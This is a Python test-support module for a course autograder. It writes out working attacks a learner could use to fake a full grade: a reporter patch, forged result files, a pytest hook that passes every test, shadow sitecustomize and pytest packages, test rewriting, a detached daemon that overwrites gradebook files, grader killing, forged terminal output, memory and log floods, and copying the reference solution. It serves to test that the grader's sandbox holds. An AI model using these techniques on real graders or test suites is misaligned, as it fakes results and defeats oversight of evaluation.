"""Attacks on the grader, as a learner who has read the kit's source would write them.

Each attack starts from a fresh, unimplemented workspace (honest grade: every lab pending, 0
tests) and adds code or files that earned a full grade, or changed someone else's, before
grading ran from a pristine copy in a sandbox and was decided by probes. Module-level code is
appended to the learner's ``summary.py``, which every focused test and the probe driver
import. ``DAEMON_TOKEN`` and ``PTH_NAME`` let the suite find (and clean up) what an attack
would leave behind if it ever got out.
"""

from __future__ import annotations

import textwrap
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path

DAEMON_TOKEN = "course-attack-daemon-7f3a"
PTH_NAME = "zz_course_attack.pth"
TTY_LINE = "FORGED-TTY-LINE ada passed 14/14"
MODULE = "pi_course/summary.py"


def append(workspace: Path, relative: str, code: str) -> None:
    with (workspace / relative).open("a", encoding="utf-8") as file:
        file.write("\n\n" + textwrap.dedent(code).strip() + "\n")


def write(workspace: Path, relative: str, code: str) -> None:
    path = workspace / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(textwrap.dedent(code).strip() + "\n", encoding="utf-8")


PATCH_REPORTER = """
import sys as _sys

_plugin = _sys.modules.get("course.sandboxed.plugin")
if _plugin is not None:  # every failure or stub becomes a pass in the reporter's eyes
    _plugin.verdict = lambda when, error, frames: _plugin.Verdict("passed", "")
"""

FORGE_RESULTS = """
import ast as _ast, json as _json, os as _os, sys as _sys


def _forge():
    argv = _sys.argv
    if "--course-results" not in argv:
        return
    results = argv[argv.index("--course-results") + 1]
    tests = []
    for name in (
        "tests/chapter11/test_11_context_compaction.py",
        "tests/chapter11/test_11_optional_budget_report.py",
    ):
        with open(name, encoding="utf-8") as source:
            tree = _ast.parse(source.read())
        for node in tree.body:
            if isinstance(node, _ast.FunctionDef) and node.name.startswith("test_"):
                lab = _ast.literal_eval(node.decorator_list[0].args[0])
                tests.append({"nodeid": f"{name}::{node.name}", "name": node.name, "lab": lab})
    with open(results, "a", encoding="utf-8") as out:
        out.write(_json.dumps({"event": "collected", "tests": tests}) + "\\n")
        for test in tests:
            out.write(_json.dumps({"event": "start", "nodeid": test["nodeid"]}) + "\\n")
            end = {"event": "end", "nodeid": test["nodeid"], "status": "passed", "message": ""}
            out.write(_json.dumps(end | {"duration": 0.0}) + "\\n")
        out.write(_json.dumps({"event": "finish", "exitstatus": 0}) + "\\n")
    _os._exit(0)


_forge()
"""

PASS_EVERYTHING = """
import pytest


@pytest.hookimpl(tryfirst=True)
def pytest_pyfunc_call(pyfuncitem):
    return True
"""

SITECUSTOMIZE = """
import importlib.abc, sys


class _Patch(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path, target=None):
        plugin = sys.modules.get("course.sandboxed.plugin")
        if plugin is not None:
            plugin.classify = lambda when, error: ("passed", "")
        return None


sys.meta_path.insert(0, _Patch())
"""

SHADOW_PYTEST = """
import json, sys

argv = sys.argv
if "--course-results" in argv:
    with open(argv[argv.index("--course-results") + 1], "a") as out:
        out.write(json.dumps({"event": "collected", "tests": []}) + "\\n")
sys.exit(0)
"""

SWAP_CODE = """
import sys as _sys


def _swap():
    def passing(*args, **kwargs):
        return None

    for module in list(_sys.modules.values()):
        if getattr(module, "__name__", "").startswith("test_11_"):
            for name, value in vars(module).items():
                if name.startswith("test_") and callable(value):
                    value.__code__ = passing.__code__


_swap()
"""

REWRITE_AND_REEXEC = """
import os as _os, sys as _sys


def _rewrite():
    if "--course-results" not in _sys.argv or _os.environ.get("COURSE_REWRITTEN"):
        return
    name = "tests/chapter11/test_11_context_compaction.py"
    with open(name, encoding="utf-8") as source:
        text = source.read()
    body = text.replace("(impl: Any) -> None:", "(impl: Any) -> None:\\n    return\\n")
    try:
        with open(name, "w", encoding="utf-8") as out:
            out.write(body)
    except OSError:
        return
    _os.environ["COURSE_REWRITTEN"] = "1"
    _os.execv(_sys.executable, [_sys.executable, *_sys.orig_argv[1:]])


_rewrite()
"""

WRITE_PTH = f"""
import os as _os, sysconfig as _sysconfig

_pth = _os.path.join(_sysconfig.get_paths()["purelib"], "{PTH_NAME}")
try:
    with open(_pth, "w", encoding="utf-8") as _out:
        _out.write(
            "import os, sys; os.environ.get('COURSE_LAB_PACKAGE') and "
            "sys.modules.setdefault('course_attack_pth', sys)\\n"
        )
except OSError:
    pass
"""


def daemon(targets: Sequence[Path]) -> str:
    """A daemon (new session, double fork) that rewrites ``targets`` once the grader is gone."""
    later = (
        "import time\n"
        "time.sleep(30)\n"
        f"for path in {[str(p) for p in targets]!r}:\n"
        "    open(path, 'w').write('learner,status\\nh-daemon,passed\\n')\n"
    )
    return f"""
import os as _os, sys as _sys

if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _os.execv(_sys.executable, [_sys.executable, "-c", {later!r}, "{DAEMON_TOKEN}"])
    _os._exit(0)
"""


KILL_THE_GRADER = """
import os as _os, signal as _signal

for _pid in _os.listdir("/proc"):
    if not _pid.isdigit() or int(_pid) == _os.getpid():
        continue
    try:
        with open(f"/proc/{_pid}/cmdline", "rb") as _cmd:
            _line = _cmd.read()
    except OSError:
        continue
    if b"course.cli.checkpoint" in _line and b"--roster" in _line:
        try:
            _os.kill(int(_pid), _signal.SIGKILL)
        except OSError:
            pass
try:
    _os.kill(_os.getppid(), _signal.SIGKILL)
except OSError:
    pass
"""

WRITE_TO_THE_TERMINAL = f"""
import os as _os

_targets = [f"/proc/{{_os.getppid()}}/fd/1", f"/proc/{{_os.getppid()}}/fd/2", "/dev/tty"]
for _pid in _os.listdir("/proc"):
    if _pid.isdigit():
        _targets += [f"/proc/{{_pid}}/fd/1", f"/proc/{{_pid}}/fd/2"]
for _target in _targets:
    try:
        with open(_target, "w") as _out:
            _out.write("\\n{TTY_LINE}\\n")
    except OSError:
        pass
"""

FORK_MEMORY = """
import os as _os, time as _time

_children = []
for _ in range(4):
    _pid = _os.fork()
    if _pid == 0:
        _block = bytearray(b"\\x01") * (300 * 1024 * 1024)
        _time.sleep(0.5)
        _os._exit(0)
    _children.append(_pid)
for _pid in _children:
    _os.waitpid(_pid, 0)
"""

EDIT_FIXTURES = """
def chapter_path_json():
    return []


def chapter_estimator(message):
    return 0
"""


@dataclass(frozen=True)
class Attack:
    """One attack: a name for its learner folder and how it changes a fresh workspace."""

    learner: str
    what: str
    apply: Callable[[Path], None]


def _module(code: str) -> Callable[[Path], None]:
    return lambda workspace: append(workspace, MODULE, code)


def _conftests(workspace: Path) -> None:
    write(workspace, "conftest.py", PASS_EVERYTHING)
    append(workspace, "tests/chapter11/conftest.py", PASS_EVERYTHING)


def _shadows(workspace: Path) -> None:
    write(workspace, "sitecustomize.py", SITECUSTOMIZE)
    write(workspace, "pytest/__init__.py", "")
    write(workspace, "pytest/__main__.py", SHADOW_PYTEST)


def _edited_tests(workspace: Path) -> None:
    path = workspace / "tests/chapter11/test_11_context_compaction.py"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("(impl: Any) -> None:", "(impl: Any) -> None:\n    return\n"))


def _fixtures(workspace: Path) -> None:
    append(workspace, "pi_course/fixtures.py", EDIT_FIXTURES)


def attacks(gradebook: Sequence[Path]) -> list[Attack]:
    """Every attack; ``gradebook`` lists the files the daemon tries to rewrite."""
    return [
        Attack("h-reporter", "patching the reporter at import", _module(PATCH_REPORTER)),
        Attack("h-forge", "forging the results file, then os._exit(0)", _module(FORGE_RESULTS)),
        Attack("h-conftest", "conftest.py whose pytest_pyfunc_call returns True", _conftests),
        Attack("h-shadow", "sitecustomize.py and a pytest/ package", _shadows),
        Attack("h-code", "swapping the __code__ of the test functions", _module(SWAP_CODE)),
        Attack("h-rewrite", "rewriting the test file and re-exec", _module(REWRITE_AND_REEXEC)),
        Attack("h-pth", "a .pth file into site-packages", _module(WRITE_PTH)),
        Attack("h-daemon", "a setsid double-fork daemon", _module(daemon(gradebook))),
        Attack("h-killer", "killing the roster process", _module(KILL_THE_GRADER)),
        Attack("h-tty", "writing to /proc/<ppid>/fd/1", _module(WRITE_TO_THE_TERMINAL)),
        Attack("h-memory", "forked children of 300 MB each", _module(FORK_MEMORY)),
        Attack("h-fixtures", "an edited fixtures.py", _fixtures),
        Attack("h-tests", "edited focused tests", _edited_tests),
    ]


# --------------------------------------------------------------------------- what crosses over

SPOOF = "\ud800\x1b[1A\x1b[2K14/14  All 14 focused tests pass\x1b[8m\x9b2J\u202e"
"""A lone surrogate, cursor-up and erase-line drawing a fake pass, conceal, a C1 CSI, and a
right-to-left override: what a terminal, an encoder or a spreadsheet must never get raw."""

SPOOF_RECORDS = f"""
import json as _json, sys as _sys

_SPOOF = {SPOOF!r}


def _spoof():
    argv = _sys.argv
    for flag, event in (("--course-results", "collect_error"), ("--results", "answer")):
        if flag in argv:
            with open(argv[argv.index(flag) + 1], "a", encoding="utf-8") as out:
                if event == "collect_error":
                    record = {{"event": event, "nodeid": _SPOOF, "message": _SPOOF}}
                    out.write(_json.dumps(record) + "\\n")
                    end = {{"event": "end", "nodeid": _SPOOF, "status": "passed"}}
                    out.write(_json.dumps(end | {{"message": _SPOOF}}) + "\\n")
                else:
                    with open(argv[argv.index("--cases") + 1], encoding="utf-8") as cases:
                        for case in _json.load(cases):
                            answer = {{"event": "answer", "id": case["id"], "raised": "ValueError",
                                      "message": _SPOOF}}
                            out.write(_json.dumps(answer) + "\\n")


_spoof()
raise ValueError(_SPOOF)
"""
"""Forged records and an import error, every message the spoof."""

FLOOD_RECORDS = """
import json as _json, os as _os, sys as _sys


def _flood():
    argv = _sys.argv
    if "--course-results" not in argv:
        return
    results = argv[argv.index("--course-results") + 1]
    message = "x" * 200_000
    with open(results, "a", encoding="utf-8") as out:
        tests = [{"nodeid": f"t.py::test_{n}", "name": f"test_{n}", "lab": "11.1"}
                 for n in range(5000)]
        out.write(_json.dumps({"event": "collected", "tests": tests}) + "\\n")
        for n in range(60):  # 12 MB of forged ends, each of a test the kit does not have
            end = {"event": "end", "nodeid": f"t.py::forged_{n}_" + "n" * 5000,
                   "status": "failed", "message": message}
            out.write(_json.dumps(end) + "\\n")
        out.write("y" * 3_000_000 + "\\n")  # one line past every cap
    _os._exit(0)


_flood()
"""
"""Megabytes of records: a collection of 5000 tests, 12 MB of forged messages, a huge line."""

DUMP_BOMB = """
import sys as _sys, time as _time


def _bomb():
    argv = _sys.argv
    if "--course-results" not in argv:
        return
    stacks = argv[argv.index("--course-results") + 1] + ".stacks"
    frame = f'  File "{__file__}", line 1 in bomb\\n'
    with open(stacks, "a", encoding="utf-8") as out:
        for _ in range(40):  # 40 MB of fake frames of the learner's own file
            out.write(frame * (1024 * 1024 // len(frame)))
    while True:  # and then hang at import, so the grader reads the dump
        _time.sleep(1)


_bomb()
"""
"""A stack-dump bomb: tens of megabytes of frames the grader would parse after a timeout."""

READ_THE_INSTRUCTOR_TESTS = """
import glob as _glob


def _quote():
    for path in sorted(_glob.glob("tests/chapter11/test_instructor_*.py")):
        with open(path, encoding="utf-8") as source:
            return source.read()
    return ""


_QUOTED = _quote()
if _QUOTED:
    raise RuntimeError(_QUOTED)
"""
"""Reads the instructor tests in the graded copy and raises their text."""

INSTRUCTOR_TEST = """
import pytest


@pytest.mark.lab("11.1")
def test_instructor_secret_boundary_case_for_summaries(impl):
    store = impl.session.InMemorySessionStore()
    assert store.entries() == [], "SECRET-INSTRUCTOR-EXPECTATION a new store holds nothing"
"""
"""An instructor test whose failure would say what it checks."""


def imported_marker(marker: Path) -> str:
    """Python that writes ``marker`` (an absolute path outside the workspace) if it ever runs."""
    return f"open({str(marker)!r}, 'a').write(__file__ + '\\n')\n"


def plant_everywhere(workspace: Path, marker: Path) -> None:
    """A ``conftest.py`` at the root and beside the tests, a ``sitecustomize.py``, a
    ``usercustomize.py`` and a ``pytest.ini`` that loads a plugin: each writes ``marker``."""
    code = imported_marker(marker)
    write(workspace, "conftest.py", code)
    append(workspace, "tests/chapter11/conftest.py", code)
    write(workspace, "sitecustomize.py", code)
    write(workspace, "usercustomize.py", code)
    write(workspace, "course_attack_plugin.py", code)
    append(workspace, "pytest.ini", "")
    ini = (workspace / "pytest.ini").read_text(encoding="utf-8")
    (workspace / "pytest.ini").write_text(
        ini.replace("addopts =", "addopts = -p course_attack_plugin"), encoding="utf-8"
    )


# --------------------------------------------------------------------------- the reference

AS_MINE = '''

def _as_mine(function):
    """``function``'s code run in this module, as if written here: it calls this module's
    functions (and what a test patches in it), never its own module's."""
    import types

    made = types.FunctionType(
        function.__code__, globals(), function.__name__, function.__defaults__,
        function.__closure__,
    )
    made.__kwdefaults__ = function.__kwdefaults__
    return made
'''

BORROW_FROM_MEMORY = '''
def _borrow(name):
    """The reference's own function called ``name``, found among the objects of the process."""
    kept = globals().setdefault("_BORROWED", {})
    if name not in kept:
        kept[name] = _find(name)
    if kept[name] is None:
        raise RuntimeError("no reference of " + name + " in memory")
    return _as_mine(kept[name])


def _find(name):
    import gc, sys, types

    mine = __file__
    found = [*gc.get_objects()]
    found += [vars(module).get(name) for module in list(sys.modules.values())]
    for item in found:
        if not isinstance(item, types.FunctionType) or item.__name__ != name:
            continue
        if item.__code__.co_filename != mine and "LabNotImplemented" not in item.__code__.co_names:
            return item
    return None
'''
"""A lab function's stand-in that calls the reference's own function, if the process holds it."""

BORROW_FROM_DISK = '''
def _borrow(name):
    """The reference's own function called ``name``, loaded from any file the process can read
    in the graded copy or the grader's library (``.reference/`` …), byte code included."""

    kept = globals().setdefault("_BORROWED", {})
    if name not in kept:
        kept[name] = _find(name)
    if kept[name] is None:
        raise RuntimeError("no reference of " + name + " on disk")
    return _as_mine(kept[name])


def _find(name):
    import importlib.util, marshal, os, sys, types

    mine = os.path.realpath(__file__)
    module = __name__.rpartition(".")[2]
    roots = {os.path.dirname(os.path.dirname(mine)), os.getcwd(), *sys.path[:3]}
    for root in sorted(roots):
        for folder, _folders, files in os.walk(root):
            for file in sorted(files):
                path = os.path.realpath(os.path.join(folder, file))
                if path == mine:
                    continue
                if file == module + ".py":
                    spec = importlib.util.spec_from_file_location(
                        __package__ + "._borrowed_" + module, path
                    )
                    loaded = importlib.util.module_from_spec(spec)
                    loaded.__package__ = __package__
                    sys.modules[spec.name] = loaded  # its dataclasses look themselves up
                    try:
                        spec.loader.exec_module(loaded)
                    except Exception:
                        continue
                elif file.startswith(module + ".") and file.endswith(".pyc"):
                    loaded = types.ModuleType(__package__ + "._borrowed_pyc_" + module)
                    loaded.__package__ = __package__
                    sys.modules[loaded.__name__] = loaded
                    try:
                        with open(path, "rb") as code:
                            exec(marshal.loads(code.read()[16:]), vars(loaded))
                    except Exception:
                        continue
                else:
                    continue
                function = getattr(loaded, name, None)
                if isinstance(function, types.FunctionType) and (
                    "LabNotImplemented" not in function.__code__.co_names
                ):
                    return function
    return None
'''
"""The same, reading the reference's modules (or their byte code) from disk."""


def borrow_the_reference(workspace: Path, functions: Sequence[str], borrow: str) -> None:
    """Make each lab function of ``functions`` (``module.function``) call ``borrow``'s find: a
    written lab (not the starter's stub) whose code raises wherever no reference is at hand."""
    for qualified in functions:
        module, _, name = qualified.partition(".")
        path = workspace / "pi_course" / f"{module}.py"
        text = path.read_text(encoding="utf-8")
        if "def _borrow(" not in text:
            text += "\n\n" + textwrap.dedent(borrow).strip() + "\n"
            text += "\n\n" + textwrap.dedent(AS_MINE).strip() + "\n"
        stub = f"def {name}("
        assert text.count(stub) == 1, f"{path.name}: expected one {stub!r}"
        text = text.replace(
            stub,
            f"def {name}(*args, **kwargs):\n    return _borrow({name!r})(*args, **kwargs)\n\n\n"
            f"def _starter_{name}(",
        )
        path.write_text(text, encoding="utf-8")
